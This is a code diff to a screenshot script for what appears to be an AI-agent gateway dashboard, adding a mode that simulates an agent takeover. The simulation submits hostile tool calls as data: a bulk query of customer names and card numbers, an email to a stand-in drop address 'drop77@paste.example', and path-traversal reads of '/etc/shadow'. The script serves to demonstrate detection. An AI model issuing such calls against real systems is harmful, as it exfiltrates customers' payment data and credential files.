@@ -1,4 +1,7 @@
-"""Writes `docs/screenshots`: every page of the cockpit in light, dark and narrow, over the demonstration's gateway."""
+"""Writes `docs/screenshots`: every page of the cockpit in light, dark and narrow, over the demonstration's gateway.
+
+`scripts/screenshots.py takeover` writes one agent's page before and after a simulated takeover, and nothing else.
+"""
 
 from __future__ import annotations
 
@@ -29,6 +32,7 @@ SIZES: Final[dict[str, dict[str, Any]]] = {
     "dark": {"viewport": {"width": 1280, "height": 800}, "color_scheme": "dark"},
     "narrow": {"viewport": {"width": 360, "height": 720}, "color_scheme": "light"},
 }
+WORKED: Final = 150  # rounds of an agent's work before somebody takes it over
 WISH: Final = "notes about what somebody earns wait for an approval"
 DRAFT: Final = {
     "name": "notes-about-pay",
@@ -55,6 +59,52 @@ previews: {workspace: WORKSPACE}
 
 
 def main() -> int:
+    """Take what was asked for."""
+    if sys.argv[1:] == ["takeover"]:
+        return take_over()
+    return take_all() or take_over()
+
+
+def take_over() -> int:
+    """Let an agent work, take its page, let somebody else act in its name, and take the page again."""
+    folder = Path(tempfile.mkdtemp(prefix="aegis-screenshots-"))
+    try:
+        with stage(folder) as here, sync_playwright() as playwright:
+            with closing(open_state(here.config, here.home)) as state:
+                key = create_key(state, roles=("agent",), agent="billing-bot", by="demo").text
+
+            def decide(tool: str, session: str, /, **arguments: Any) -> None:
+                call = {"tool": tool, "arguments": arguments, "session": session}
+                here.gateway.ask("POST", "/v1/decisions", key, call)
+
+            for number in range(WORKED):
+                decide("read_file", f"invoice-{number // 4}", path=f"invoices/{number}.txt")
+                decide("query_db", f"invoice-{number // 4}", sql=f"SELECT amount FROM invoices WHERE number = {number}")
+            browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+            options = SIZES["light"] | {"viewport": {"width": 1280, "height": 1120}}
+            page = browser.new_context(base_url=here.url, reduced_motion="reduce", locale="en-GB", **options).new_page()
+            sign_in(page, here.password)
+            save_agent(page, "takeover-before")
+            decide("query_db", "invoice-9000", sql=f"SELECT name, card FROM customers {'/* all of them */ ' * 900}")
+            decide("send_email", "invoice-9000", to="drop77@paste.example", subject="list", body="see below")
+            for number in range(6):
+                decide("read_file", "invoice-9000", path=f"../../../../etc/shadow{number or ''}")
+            save_agent(page, "takeover-after")
+            browser.close()
+    finally:
+        shutil.rmtree(folder, ignore_errors=True)
+    return 0
+
+
+def save_agent(page: Page, name: str) -> None:
+    """The page of the agent, once what was just decided is counted."""
+    page.wait_for_timeout(9_000)
+    page.goto("/agents/billing-bot")
+    page.wait_for_timeout(900)
+    save(page, name)
+
+
+def take_all() -> int:
     """Seed the demonstration's gateway, and take every page in every size."""
     folder = Path(tempfile.mkdtemp(prefix="aegis-screenshots-"))
     shop = Path(tempfile.gettempdir(), "shop")  # pages show where it is, so it is the same for everybody
@@ -139,10 +189,7 @@ def take(browser: Browser, here: Stage, pages: dict[str, str], size: str, option
     page = context.new_page()
     page.goto("/sign-in")
     save(page, f"sign-in-{size}")
-    page.get_by_label("Name").fill(PERSON)
-    page.get_by_label("Password").fill(here.password)
-    page.get_by_role("button", name="Sign in").click()
-    page.wait_for_url("**/")
+    sign_in(page, here.password)
     for name, path in pages.items():
         page.goto(path)
         if name == "policies":
@@ -160,6 +207,15 @@ def take(browser: Browser, here: Stage, pages: dict[str, str], size: str, option
         page.wait_for_timeout(900)
         save(page, f"{name}-{size}")
     context.close()
+
+
+def sign_in(page: Page, password: str) -> None:
+    """Sign in as the demonstration's person."""
+    page.goto("/sign-in")
+    page.get_by_label("Name").fill(PERSON)
+    page.get_by_label("Password").fill(password)
+    page.get_by_role("button", name="Sign in").click()
+    page.wait_for_url("**/")
 
 
 def save(page: Page, name: str) -> None:
